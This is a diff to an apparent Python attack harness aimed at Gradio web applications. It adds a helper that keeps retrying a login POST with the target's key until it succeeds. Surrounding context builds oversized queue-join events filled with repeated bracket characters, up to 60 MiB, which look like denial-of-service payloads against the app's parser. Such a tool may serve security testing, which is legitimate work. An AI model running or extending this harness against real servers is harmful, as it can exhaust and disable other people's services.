@@ -85,8 +85,7 @@ def _of_a_client(victim: Victim) -> dict[str, Attack]:
 
 
 async def _of_a_visitor(victim: Victim, client: httpx.AsyncClient) -> dict[str, Attack]:
-    login = {"key": victim.key}
-    await client.post(f"{victim.page}login", data=login, headers={"origin": _origin(victim.page)})
+    await _log_in(victim, client)
     config = (await client.get(f"{victim.page}config")).json()
     api = f"{victim.page}gradio_api"
     join = f"{api}/queue/join"
@@ -104,6 +103,14 @@ async def _of_a_visitor(victim: Victim, client: httpx.AsyncClient) -> dict[str, 
     for size in (10 * KIB, MIB, 60 * MIB):
         attacks[f"events of {size >> 10} KiB"] = _joining(join, config, "\\[" * (size // 2))
     return attacks
+
+
+async def _log_in(victim: Victim, client: httpx.AsyncClient) -> None:
+    """Logs in as soon as the page lets somebody from here, where strangers try it too."""
+    origin = {"origin": _origin(victim.page)}
+    login = f"{victim.page}login"
+    while not (await client.post(login, data={"key": victim.key}, headers=origin)).is_redirect:
+        await asyncio.sleep(1)
 
 
 def _getting(url: str, headers: Mapping[str, str] | None = None, times: int = 5) -> Attack:
